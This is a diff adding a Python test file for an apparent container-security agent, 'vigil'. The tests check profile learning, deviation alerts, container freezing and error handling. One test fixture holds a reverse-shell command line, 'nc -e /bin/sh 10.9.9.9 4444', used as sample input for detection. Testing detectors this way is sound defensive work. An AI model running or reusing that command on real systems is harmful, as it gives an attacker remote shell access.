@@ -1,0 +1,165 @@
+"""The agent's pipeline on events pushed in memory: attribution, learning, alerts, freezing."""
+
+import asyncio
+import json
+from pathlib import Path
+
+from tests.fakes import (
+    WEB,
+    WEB_1,
+    WEB_2,
+    FakeRecord,
+    FixedIdentity,
+    QueueSensor,
+    TableIdentity,
+    connect_event,
+    exec_event,
+)
+from vigil.agent import Agent
+from vigil.config import Playbook, PlaybookMatch
+from vigil.detect.profiles import ProfileBook
+from vigil.models import Severity
+from vigil.record.outputs import JsonlFileOutput
+from vigil.record.store import Store
+from vigil.respond.responder import Responder
+
+FREEZE_HIGH = Playbook(
+    name="freeze-high",
+    match=PlaybookMatch(severities=frozenset({Severity.HIGH, Severity.CRITICAL})),
+    mode="auto",
+    actions=("freeze",),
+)
+
+
+def make_agent(tmp_path: Path, identity: TableIdentity) -> tuple[Agent, QueueSensor, Path]:
+    sensor = QueueSensor()
+    jsonl = tmp_path / "alerts.jsonl"
+    agent = Agent(
+        sensor=sensor,
+        identity=identity,
+        profiles=ProfileBook(learning_period=None),
+        responder=Responder([FREEZE_HIGH], identity),
+        store=Store.open(tmp_path / "data"),
+        outputs=[JsonlFileOutput(jsonl)],
+    )
+    return agent, sensor, jsonl
+
+
+def fixture_freezer(tmp_path: Path, name: str) -> Path:
+    freezer = tmp_path / "cgroup" / "freezer" / name
+    freezer.mkdir(parents=True)
+    (freezer / "freezer.state").write_text("THAWED\n")
+    return freezer
+
+
+def test_deviation_alert_json_and_freeze(tmp_path: Path) -> None:
+    freezer = fixture_freezer(tmp_path, "web-2")
+    identity = TableIdentity(
+        by_cgroup={100: FixedIdentity(WEB_1, WEB), 200: FixedIdentity(WEB_2, WEB)},
+        records={"web-2": FakeRecord({"freezer": str(freezer)})},
+    )
+    agent, sensor, jsonl = make_agent(tmp_path, identity)
+
+    async def scenario() -> None:
+        stop = asyncio.Event()
+        task = asyncio.create_task(agent.run(stop))
+        await agent.ready.wait()
+        sensor.push(exec_event("/bin/sh", cgroup_id=100))
+        sensor.push(connect_event("10.0.0.7", 5432, cgroup_id=200))
+        sensor.push(exec_event("/usr/bin/ssh", cgroup_id=999))  # the host: never profiled
+        while sensor.queue.qsize():
+            await asyncio.sleep(0.01)
+        agent.lock(None)
+        sensor.push(exec_event("/bin/nc", cgroup_id=200, cmdline="nc -e /bin/sh 10.9.9.9 4444"))
+        sensor.push(connect_event("10.9.9.9", 4444, cgroup_id=200))
+        sensor.push(exec_event("/bin/nc", cgroup_id=100))  # known now: reported once only
+        sensor.close()
+        await task
+
+    asyncio.run(scenario())
+    alerts = [json.loads(line) for line in jsonl.read_text().splitlines()]
+    assert [a["rule"] for a in alerts] == ["profile.new_executable", "profile.new_destination"]
+    exe_alert, dest_alert = alerts
+    for key in (
+        "id",
+        "time",
+        "kind",
+        "rule",
+        "severity",
+        "message",
+        "mitre",
+        "container",
+        "workload",
+        "process",
+        "response",
+    ):
+        assert key in exe_alert
+    assert exe_alert["kind"] == "deviation"
+    assert exe_alert["time"].endswith("Z")
+    assert exe_alert["severity"] == "high"
+    assert exe_alert["container"] == {
+        "id": "web-2",
+        "name": "nginx",
+        "image": "nginx:1.27",
+        "runtime": "runc",
+    }
+    assert exe_alert["workload"] == {
+        "namespace": "shop",
+        "kind": "Deployment",
+        "name": "web",
+        "container": "nginx",
+    }
+    assert exe_alert["process"]["exe"] == "/bin/nc"
+    assert exe_alert["process"]["cmdline"] == "nc -e /bin/sh 10.9.9.9 4444"
+    (action,) = exe_alert["response"]["actions"]
+    assert action["action"] == "freeze" and action["outcome"] == "done"
+    assert (freezer / "freezer.state").read_text() == "FROZEN"
+    assert dest_alert["network"] == {
+        "protocol": "tcp",
+        "family": "ipv4",
+        "dest_ip": "10.9.9.9",
+        "dest_port": 4444,
+    }
+    assert dest_alert["response"] == {"playbook": None, "actions": []}
+    # the store holds the same alerts, and the profile with its state
+    stored = agent.store.alerts()
+    assert {a["id"] for a in stored} == {a["id"] for a in alerts}
+    (profile,) = agent.store.load_profiles()
+    assert profile.state.value == "locked"
+
+
+def test_freeze_of_unknown_container_is_recorded_as_failed(tmp_path: Path) -> None:
+    identity = TableIdentity(by_cgroup={100: FixedIdentity(WEB_1, WEB)})
+    agent, _, jsonl = make_agent(tmp_path, identity)
+
+    async def scenario() -> None:
+        await agent.handle(exec_event("/bin/sh"))
+        agent.lock(None)
+        await agent.handle(exec_event("/bin/nc"))
+
+    asyncio.run(scenario())
+    (alert,) = [json.loads(line) for line in jsonl.read_text().splitlines()]
+    assert alert["response"]["actions"][0]["outcome"] == "failed"
+    assert "no longer known" in alert["response"]["actions"][0]["detail"]
+
+
+def test_one_bad_event_does_not_stop_the_agent(tmp_path: Path) -> None:
+    class Flaky(TableIdentity):
+        def resolve(self, cgroup_id: int, pid: int) -> FixedIdentity:
+            if pid == 666:
+                raise RuntimeError("boom")
+            return super().resolve(cgroup_id, pid)
+
+    agent, sensor, _ = make_agent(tmp_path, Flaky(by_cgroup={100: FixedIdentity(WEB_1, WEB)}))
+
+    async def scenario() -> None:
+        stop = asyncio.Event()
+        task = asyncio.create_task(agent.run(stop))
+        sensor.push(exec_event("/bin/sh", pid=666))
+        sensor.push(exec_event("/bin/sh", pid=1))
+        sensor.close()
+        await task
+
+    asyncio.run(scenario())
+    assert agent.events_failed == 1
+    assert agent.profiles.all()[0].executables == {"/bin/sh"}
